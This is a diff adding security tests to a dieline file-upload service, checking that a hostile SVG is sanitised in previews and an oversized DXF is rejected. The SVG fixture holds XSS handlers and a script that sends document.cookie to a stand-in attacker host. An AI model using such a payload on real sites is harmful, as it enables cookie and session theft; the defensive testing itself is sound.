@@ -229,3 +229,43 @@ describe('questions', () => {
     expect(otherShopAfter.body.questions).toEqual([expect.objectContaining({ question: 'Are the nicks marked?', answer: 'Yes, on layer NICKS.', askedByYou: false })]);
   });
 });
+
+describe('hostile dielines', () => {
+  it('measures an SVG with a script and external references without ever passing them on', async () => {
+    const w = await createWorld();
+    const draft = await createDraft(w);
+    const evil = `<?xml version="1.0"?>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="192" height="96" viewBox="0 0 192 96" onload="alert(1)">
+  <script>fetch('http://attacker.example/steal?c=' + document.cookie)</script>
+  <image xlink:href="http://attacker.example/pixel.png" width="1" height="1"/>
+  <g id="cut" onclick="alert(2)"><rect x="0" y="0" width="192" height="96" fill="none" stroke="black"/></g>
+</svg>`;
+    const res = await upload(w, draft.id, 'evil.svg', evil);
+    expect(res.status).toBe(201);
+    const file = await analysed(w, res.body.id);
+    expect(file.metrics.length.cut).toBeCloseTo(6, 6);
+    const preview = await request(app).get(`/api/files/${res.body.id}/preview`).set(bearer(w.tokens.buyer));
+    const text = JSON.stringify(preview.body);
+    expect(text).not.toMatch(/script|alert|attacker|onload|onclick|href/i);
+    // Only path data reaches the browser: commands, numbers and separators.
+    for (const path of preview.body.preview.paths) expect(path.d).toMatch(/^[MLAHVCSQTZmlahvcsqtz0-9 .,eE+-]+$/);
+    // The original is only ever downloaded as an attachment, never shown inline.
+    const link = await request(app).get(`/api/files/${res.body.id}/download`).set(bearer(w.tokens.buyer));
+    const head = await fetch(link.body.url);
+    expect(head.headers.get('content-disposition')).toMatch(/^attachment/);
+  });
+
+  it('refuses a DXF with more entities than the limit, with a clear reason and the upload kept', async () => {
+    const w = await createWorld();
+    const draft = await createDraft(w);
+    const lines: string[] = ['0', 'SECTION', '2', 'ENTITIES'];
+    // 250,000 tiny lines: past the 200,000-entity limit of the analysis.
+    for (let i = 0; i < 250_000; i++) lines.push('0', 'LINE', '8', 'CUT', '10', String(i * 0.001), '20', '0', '11', String(i * 0.001 + 0.0005), '21', '0');
+    lines.push('0', 'ENDSEC', '0', 'EOF', '');
+    const res = await upload(w, draft.id, 'dust.dxf', lines.join('\n'));
+    expect(res.status).toBe(201);
+    const file = await analysed(w, res.body.id);
+    expect(file.analysisStatus).toBe('failed');
+    expect(file.analysisError).toMatch(/entities|too many/i);
+  });
+});
